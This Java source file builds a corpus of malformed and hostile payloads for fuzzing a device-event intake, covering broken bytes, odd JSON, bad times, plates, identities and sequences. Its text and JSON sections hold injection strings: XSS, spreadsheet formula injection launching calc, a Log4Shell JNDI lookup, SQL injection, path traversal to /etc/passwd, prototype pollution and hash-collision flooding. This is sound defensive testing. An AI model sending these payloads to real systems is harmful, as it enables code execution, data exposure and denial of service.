package gatehouse.ingest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/**
 * What arrives at an intake that is open to devices: broken bytes, odd JSON, impossible times,
 * foreign names, strange plates, texts made for whoever shows them, sequences out of order. Every
 * payload is built around the same valid message; the number behind it is its own id and seq.
 */
final class BadInputCorpus {

  private static final String ID = "\"id\":\"";
  private static final String CARD = "\"card-0815\"";

  private final String community;
  private final String device;
  private long number = 1_000_000;

  BadInputCorpus(String community, String device) {
    this.community = community;
    this.device = device;
  }

  /** Payloads by category. */
  Map<String, List<byte[]>> payloads() throws IOException {
    Map<String, List<byte[]>> payloads = new LinkedHashMap<>();
    payloads.put("bytes", brokenBytes());
    payloads.put("truncations", truncations());
    payloads.put("bit flips", bitFlips());
    payloads.put("json", json());
    payloads.put("each field", eachField());
    payloads.put("times", times());
    payloads.put("identities", identities());
    payloads.put("plates", plates());
    payloads.put("texts", texts());
    payloads.put("sequences", sequences());
    return payloads;
  }

  private String valid() {
    number++;
    return Messages.text(community, device, "bad-" + number, number);
  }

  private List<byte[]> brokenBytes() throws IOException {
    String valid = valid();
    List<byte[]> payloads = new ArrayList<>();
    payloads.add(new byte[0]);
    payloads.add(new byte[] {'{'});
    payloads.add(new byte[] {0});
    payloads.add(new byte[1000]);
    payloads.add(Messages.bytes('\uFEFF' + valid));
    payloads.add(insert(valid, 0xFF, 0xFE));
    payloads.add(insert(valid, 0xC0, 0xAF)); // overlong /
    payloads.add(insert(valid, 0xE0, 0x80, 0xAF));
    payloads.add(insert(valid, 0xED, 0xA0, 0x80)); // a lone surrogate
    payloads.add(insert(valid, 0xF5, 0x80, 0x80, 0x80));
    payloads.add(valid.getBytes(StandardCharsets.UTF_16));
    payloads.add(valid.getBytes(Charset.forName("UTF-32")));
    payloads.add(gzip(valid));
    payloads.add(new byte[] {0x0A, 0x05, 'h', 'e', 'l', 'l', 'o', 0x10, (byte) 0x96, 0x01});
    for (int size : new int[] {Limits.PAYLOAD - 1, Limits.PAYLOAD, Limits.PAYLOAD + 1, 1_000_000}) {
      payloads.add(padded(valid(), size));
    }
    return payloads;
  }

  private List<byte[]> truncations() {
    byte[] valid = Messages.bytes(valid());
    List<byte[]> payloads = new ArrayList<>();
    for (int length = 0; length < valid.length; length++) {
      payloads.add(Arrays.copyOf(valid, length));
    }
    return payloads;
  }

  private List<byte[]> bitFlips() {
    byte[] valid = Messages.bytes(valid());
    List<byte[]> payloads = new ArrayList<>();
    for (int bit = 0; bit < valid.length * 8; bit++) {
      byte[] flipped = valid.clone();
      flipped[bit / 8] ^= (byte) (1 << (bit % 8));
      payloads.add(flipped);
    }
    return payloads;
  }

  private List<byte[]> json() {
    List<String> texts = new ArrayList<>();
    texts.add(valid().replace("{\"spec", "{\"id\":\"again\",\"spec"));
    texts.add(valid().replace(CARD, CARD + ",\"credential\":\"other\""));
    texts.add("[".repeat(10_000) + "]".repeat(10_000));
    texts.add(extra("\"deep\":" + "[".repeat(10_000) + "]".repeat(10_000)));
    texts.add(extra("\"deep\":" + "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)));
    for (String number :
        List.of(
            "1e400",
            "NaN",
            "-0",
            "9007199254740993",
            "9223372036854775808",
            "\"7\"",
            "1.5",
            "[7]",
            "{}",
            "true",
            "null",
            "9".repeat(5_000),
            "0x10",
            "007",
            "+7")) {
      texts.add(valid().replaceFirst("\"seq\":\\d+", "\"seq\":" + number));
      texts.add(extra("\"odd\":" + number));
      texts.add(valid().replace(CARD, number));
    }
    texts.add(extra("\"__proto__\":{\"admin\":true},\"constructor\":1"));
    texts.add(valid().replace("}}", ",}}"));
    texts.add(valid().replace("{\"spec", "{/* note */\"spec"));
    texts.add("// note\n" + valid());
    texts.add(valid() + valid());
    texts.add("[" + valid() + "]");
    texts.add("null");
    texts.add("\"text\"");
    texts.add(valid().replace("'", "\"").replace("\"", "'"));
    texts.add(valid().replace(CARD, "\"" + "x".repeat(1_000_000) + "\""));
    texts.add(valid().replace(CARD, "\"" + "x".repeat(60_000) + "\""));
    texts.add(extra(colliding(24_000))); // nearly the 1 MiB that the broker takes
    texts.add(extra(colliding(3_000)));
    texts.add(valid().replace("/", "\\/"));
    texts.add(valid().replace("gatehouse.access-event", "gatehouse.unheard-of"));
    texts.add(valid().replace("gatehouse.access-event", "gatehouse.residency"));
    texts.add(valid().replace("\"1.0\"", "\"2.0\""));
    texts.add(valid().replace("\"1.0\"", "1.0"));
    return texts.stream().map(Messages::bytes).toList();
  }

  /** Each field of the envelope and of the data: missing, null, and of each other type. */
  private List<byte[]> eachField() {
    List<byte[]> payloads = new ArrayList<>();
    for (String field :
        List.of(
            "specversion",
            "id",
            "source",
            "type",
            "time",
            "boot",
            "seq",
            "buffered",
            "data",
            "credential",
            "credentialType",
            "subjectType",
            "outcome")) {
      String value = "\"" + field + "\":(\"[^\"]*\"|[-0-9.]+|true|false|\\{[^}]*})";
      for (String other : List.of("null", "7", "\"text\"", "[]", "{}", "true", "[null]")) {
        payloads.add(Messages.bytes(valid().replaceFirst(value, "\"" + field + "\":" + other)));
      }
      payloads.add(Messages.bytes(valid().replaceFirst(value + ",?", "").replace(",}", "}")));
    }
    return payloads;
  }

  private List<byte[]> times() {
    List<byte[]> payloads = new ArrayList<>();
    for (String time :
        List.of(
            "0",
            "-1",
            "1795478400",
            "1795478400000",
            "1795478400000000",
            "",
            "now",
            "9999-12-31T23:59:59Z",
            "+999999999-12-31T23:59:59Z",
            "-999999999-01-01T00:00:00Z",
            "+1000000000-01-01T00:00:00Z",
            "2026-11-24T08:00:00",
            "2026-11-24T08:00:00+08:60",
            "2026-11-24T08:00:00+99:00",
            "2026-11-24T24:00:00Z",
            "2026-11-24T23:59:60Z",
            "2026-02-30T08:00:00Z",
            "2026-11-24 08:00:00Z",
            "24.11.2026 08:00",
            "1970-01-01T00:00:00Z",
            "1969-12-31T23:59:59Z",
            "2099-01-01T00:00:00Z",
            "2026-11-24T08:00:00.1234567890123Z")) {
      payloads.add(Messages.bytes(withTime("\"" + time + "\"")));
    }
    for (String number : List.of("0", "-1", "1795478400", "1795478400000", "1e18")) {
      payloads.add(Messages.bytes(withTime(number)));
    }
    for (long seconds : new long[] {1, 60, 121, 3600, 86_400, 31_536_000, 3_153_600_000L}) {
      payloads.add(
          Messages.bytes(withTime("\"" + java.time.Instant.now().plusSeconds(seconds) + "\"")));
    }
    return payloads;
  }

  private List<byte[]> identities() {
    List<byte[]> payloads = new ArrayList<>();
    for (String source :
        List.of(
            community + "/door-other",
            "other/" + device,
            "other",
            device,
            device.toUpperCase(java.util.Locale.ROOT),
            community + '/' + device + ' ',
            ' ' + community + '/' + device,
            community + "//" + device,
            community + "/../" + device,
            community + "%2f" + device,
            community + "/+",
            "#",
            "$SYS/x",
            "gatehouse/v1/" + community + "/door-other/event",
            "gatehouse/v1/" + community + '/' + device + "/event",
            community + "/b\u0430d", // a Cyrillic a
            community + "/e\u0301",
            community + "/\u00e9",
            community + "/\u202e" + device,
            community + "/\u200b" + device,
            "x".repeat(10_000))) {
      payloads.add(
          Messages.bytes(
              valid()
                  .replaceFirst(
                      "\"source\":\"[^\"]*\"",
                      java.util.regex.Matcher.quoteReplacement("\"source\":\"" + source + "\""))));
    }
    return payloads;
  }

  private List<byte[]> plates() {
    List<byte[]> payloads = new ArrayList<>();
    for (String plate :
        List.of(
            "京A12345",
            "京AD12345",
            "京A12345D",
            "京A1234学",
            "京A1234警",
            "京A1234挂",
            "使014578",
            "京A1234领",
            "粤Z1234港",
            "粤Z1234澳",
            "WJ京1234X",
            "川AO0I1I",
            "无牌",
            "未识别",
            "车牌",
            "",
            "A".repeat(64),
            "京Ａ１２３４５",
            "🚗🚗🚗",
            "京A12345\\n",
            " ")) {
      payloads.add(Messages.bytes(plate(plate, "0.9")));
    }
    for (String confidence : List.of("NaN", "1e400", "-1", "97", "\"0.9\"", "null", "Infinity")) {
      payloads.add(Messages.bytes(plate("京A12345", confidence)));
    }
    return payloads;
  }

  private String plate(String plate, String confidence) {
    return valid()
        .replace("gatehouse.access-event", "gatehouse.plate-read")
        .replaceFirst(
            "\"data\":\\{.*}}",
            java.util.regex.Matcher.quoteReplacement(
                "\"data\":{\"plateRaw\":\""
                    + plate
                    + "\",\"confidence\":"
                    + confidence
                    + ",\"direction\":\"IN\"}}"));
  }

  private List<byte[]> texts() {
    List<byte[]> payloads = new ArrayList<>();
    for (String text :
        List.of(
            "<script>alert(1)</script>",
            "\\\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "=HYPERLINK(\\\"http://x\\\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1)",
            "\\t=1+1",
            "\\r=1+1",
            "a\\r\\n2026-11-24 INFO forged line",
            "\\u001b[31mred",
            "${jndi:ldap://x/a}",
            "{{7*7}}",
            "%s%n%n",
            "'; DROP TABLE events; --",
            "1 OR 1=1",
            "\\u0000",
            "a\\ud800b",
            "a\\udc00b",
            "\\ud83d\\ude00",
            "n".repeat(10_000),
            "\u202eabc\u202c",
            "../../etc/passwd",
            "\\u0001\\u0002\\u007f")) {
      payloads.add(Messages.bytes(valid().replace(CARD, '"' + text + '"')));
      payloads.add(
          Messages.bytes(
              valid()
                  .replaceFirst(
                      ID + "[^\"]*",
                      java.util.regex.Matcher.quoteReplacement(
                          ID + text.substring(0, Math.min(100, text.length())) + number))));
      payloads.add(Messages.bytes(extra('"' + text + "\":1")));
    }
    return payloads;
  }

  private List<byte[]> sequences() {
    List<byte[]> payloads = new ArrayList<>();
    for (String seq :
        List.of(
            "0",
            "1",
            "2",
            "2",
            "1",
            "900",
            "901",
            "0",
            "-1",
            "-2",
            "2147483648",
            "9223372036854775807",
            "-9223372036854775808")) {
      payloads.add(Messages.bytes(valid().replaceFirst("\"seq\":\\d+", "\"seq\":" + seq)));
    }
    String first = valid();
    payloads.add(Messages.bytes(first));
    payloads.add(Messages.bytes(first));
    payloads.add(Messages.bytes(first.replace("card-0815", "card-0816")));
    payloads.add(Messages.bytes(first.replaceFirst("\"seq\":\\d+", "\"seq\":77")));
    payloads.add(Messages.bytes(first.replaceFirst("\"boot\":\"b1\"", "\"boot\":\"b2\"")));
    payloads.add(Messages.bytes(first.replaceFirst("\"boot\":\"b1\"", "\"boot\":\"\"")));
    return payloads;
  }

  private String extra(String field) {
    return valid().replace("\"credential\":", field + ",\"credential\":");
  }

  private String withTime(String time) {
    return valid().replaceFirst("\"time\":\"[^\"]*\"", "\"time\":" + time);
  }

  /** Names that have the same String.hashCode. */
  private static String colliding(int count) {
    StringBuilder fields = new StringBuilder();
    for (int i = 0; i < count; i++) {
      fields.append(i == 0 ? "\"" : ",\"");
      for (int bit = 0; bit < 17; bit++) {
        fields.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      fields.append("\":1");
    }
    return fields.toString();
  }

  private static byte[] insert(String valid, int... bytes) {
    byte[] text = Messages.bytes(valid);
    int at = valid.indexOf("card-0815");
    byte[] payload = new byte[text.length + bytes.length];
    System.arraycopy(text, 0, payload, 0, at);
    for (int i = 0; i < bytes.length; i++) {
      payload[at + i] = (byte) bytes[i];
    }
    System.arraycopy(text, at, payload, at + bytes.length, text.length - at);
    return payload;
  }

  private static byte[] padded(String valid, int size) {
    byte[] payload = new byte[size];
    Arrays.fill(payload, (byte) ' ');
    byte[] text = Messages.bytes(valid);
    System.arraycopy(text, 0, payload, 0, text.length);
    return payload;
  }

  private static byte[] gzip(String valid) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
      out.write(Messages.bytes(valid));
    }
    return bytes.toByteArray();
  }
}
